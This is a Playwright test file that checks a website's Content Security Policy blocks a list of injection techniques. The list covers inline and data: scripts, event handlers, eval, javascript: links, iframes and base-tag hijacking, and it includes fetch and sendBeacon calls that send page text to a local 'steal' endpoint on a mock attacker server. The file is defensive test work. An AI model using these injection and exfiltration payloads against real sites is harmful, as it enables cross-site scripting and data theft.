import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page } from "@playwright/test";
import { paths } from "#content/paths.ts";
import { formPages, sitePages } from "./all-pages.ts";
import { test } from "./slow-processor.ts";

type Attack = (page: Page, other: string) => Promise<unknown>;

const setMark = "document.documentElement.dataset.hacked = 'yes'";
const style = "--hacked: yes";

/** Inserts an element as an injection would, presses or submits it, and sets the mark if its styles apply. */
function insert(tag: string, attributes: Readonly<Record<string, string>>, text = ""): Attack {
  return (page, other) =>
    page.evaluate(
      ([name, given, words, origin]) => {
        const made = document.createElement(name);
        for (const [key, value] of Object.entries(given))
          made.setAttribute(key, value.replace("OTHER", origin));
        made.append(words);
        document.body.append(made);
        if (made instanceof HTMLFormElement) made.submit();
        else made.click();
        const isStyled = [made, document.body].some((each) =>
          getComputedStyle(each).getPropertyValue("--hacked"),
        );
        if (isStyled) document.documentElement.dataset.hacked = "yes";
      },
      [tag, attributes, text, other] as const,
    );
}

/**
 * Ways in which injected markup or code could run. Each acts as if the page's HTML or one of its scripts had
 * a hole, and tries to set the mark and to reach the other origin.
 */
const attacks: Readonly<Record<string, Attack>> = {
  "an inline script": insert("script", {}, setMark),
  "a script of another origin": insert("script", { src: "OTHER/script.js" }),
  "a script in a data: address": insert("script", { src: `data:text/javascript,${setMark}` }),
  "an event handler in an attribute": insert("button", { onclick: setMark }),
  "a broken picture with a handler": insert("img", { onerror: setMark, src: "/nowhere.png" }),
  innerHTML: (page) =>
    page.evaluate((code) => {
      document.body.innerHTML = `<img src=x onerror="${code}">`;
    }, setMark),
  "document.write": (page) => page.evaluate((code) => document.write(`<script>${code}</script>`), setMark),
  // Run from a timer, because code that the test's own connection runs may always use eval.
  eval: (page) =>
    page.evaluate(() => {
      // biome-ignore lint/security/noGlobalEval: that it does not run is what is tested.
      setTimeout(() => globalThis.eval("document.documentElement.dataset.hacked = 'yes'"));
    }),
  "a function made of text": (page) =>
    page.evaluate(() => {
      setTimeout(() => new Function("document.documentElement.dataset.hacked = 'yes'")());
    }),
  "a timer made of text": (page) => page.evaluate((code) => setTimeout(code as never, 0), setMark),
  "a javascript: address": insert("a", { href: `javascript:void(${setMark})` }),
  "a style attribute": insert("p", { style }),
  "a style element": insert("style", {}, `body { ${style} }`),
  "a style sheet of another origin": insert("link", { rel: "stylesheet", href: "OTHER/style.css" }),
  "a picture of another origin": insert("img", { src: "OTHER/pixel.png" }),
  "words fetched to another origin": (page, other) =>
    page.evaluate(
      (url) => fetch(url, { method: "POST", mode: "no-cors", body: document.body.textContent }),
      `${other}/steal`,
    ),
  "a beacon to another origin": (page, other) =>
    page.evaluate((url) => navigator.sendBeacon(url, document.body.textContent), `${other}/steal`),
  "a frame of another origin": insert("iframe", { src: "OTHER/frame" }),
  "a frame with markup of its own": insert("iframe", { srcdoc: `<script>parent.${setMark}</script>` }),
  "an object": insert("object", { data: "OTHER/object" }),
  "a worker": (page) =>
    page.evaluate(
      () => new Worker(URL.createObjectURL(new Blob(["fetch('/')"], { type: "text/javascript" }))),
    ),
  "a base element": (page, other) =>
    page.evaluate((url) => {
      const base = document.createElement("base");
      base.setAttribute("href", url);
      document.head.prepend(base);
      const image = document.createElement("img");
      image.setAttribute("src", "relative.png");
      document.body.append(image);
      if (document.baseURI.startsWith(url)) document.documentElement.dataset.hacked = "yes";
    }, `${other}/`),
  "a form to another origin": insert("form", { action: "OTHER/steal", method: "post" }),
};

for (const path of [paths.home, paths.rfq]) {
  test(`${path} runs nothing that was injected`, async ({ page }) => {
    const other = await startOtherOrigin();
    const violations = await watchViolations(page);
    await page.goto(path);
    for (const [name, attack] of Object.entries(attacks)) {
      violations.length = 0;
      await attack(page, other.origin).catch(() => {});
      await expect
        .poll(() => violations.length, { message: `${name} is reported as blocked` })
        .toBeGreaterThan(0);
      expect([name, await page.evaluate(() => document.documentElement.dataset.hacked)]).toEqual([
        name,
        undefined,
      ]);
      expect([name, new URL(page.url()).pathname]).toEqual([name, path]);
      expect([name, other.requests]).toEqual([name, []]);
    }
    await other.close();
  });
}

test("every page has one of the two policies that are attacked here, but for the hashes of its own style and script", async ({
  request,
}) => {
  const policyOf = async (path: string) =>
    (await request.get(path)).headers()["content-security-policy"]?.replaceAll(/'sha256-[^']+'/g, "'sha256'");
  const attacked = { reading: await policyOf(paths.home), form: await policyOf(paths.rfq) };
  expect(attacked.reading).toContain("default-src");
  for (const path of sitePages) {
    const kind = formPages.some((form) => form === path) ? "form" : "reading";
    expect([path, await policyOf(path)]).toEqual([path, attacked[kind]]);
  }
});

for (const path of [paths.home, paths.rfq]) {
  test(`${path} cannot be shown in a frame of another site`, async ({ page, baseURL }) => {
    const other = await startOtherOrigin(`<iframe src="${baseURL}${path}"></iframe>`);
    const refusal = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
    await page.goto(other.origin);
    await refusal;
    const [, frame] = page.frames();
    expect(frame?.url()).not.toContain(path === paths.home ? String(baseURL) : path);
    await other.close();
  });

  test(`${path} opened by another site cannot be reached through its window`, async ({
    page,
    context,
    baseURL,
  }) => {
    const other = await startOtherOrigin();
    await page.goto(other.origin);
    const opened = context.waitForEvent("page");
    await page.evaluate((url) => {
      (globalThis as unknown as { victim: Window | null }).victim = window.open(url);
    }, `${baseURL}${path}`);
    await (await opened).waitForLoadState();
    await expect
      .poll(() => page.evaluate(() => (globalThis as unknown as { victim: Window }).victim.closed))
      .toBe(true);
    await other.close();
  });
}

/** Shows that each of them is an attack: a test that cannot fail is worth nothing. */
test("without the policy every one of these injections would have run", async ({ page }) => {
  const bare = await startOtherOrigin("<!doctype html><title>Bare</title><body>Words</body>");
  for (const [name, attack] of Object.entries(attacks)) {
    const other = await startOtherOrigin();
    await page.goto(bare.origin);
    await attack(page, other.origin).catch(() => {});
    await expect
      .poll(
        async () => {
          const mark = await page
            .evaluate(() => document.documentElement.dataset.hacked)
            .catch(() => undefined);
          return mark !== undefined || other.requests.length > 0 || page.workers().length > 0;
        },
        { message: name },
      )
      .toBe(true);
    await other.close();
  }
  await bare.close();
});

async function watchViolations(page: Page) {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      (globalThis as unknown as { reportViolation(directive: string): void }).reportViolation(
        effectiveDirective,
      ),
    );
  });
  return violations;
}

/** An attacker's site, which records what reaches it. */
async function startOtherOrigin(html = "") {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    const isScript = request.url?.endsWith(".js");
    response.setHeader("content-type", isScript ? "text/javascript" : "text/html");
    response.setHeader("cross-origin-resource-policy", "cross-origin");
    response.end(isScript ? "document.documentElement.dataset.hacked = 'yes'" : html);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    requests,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}
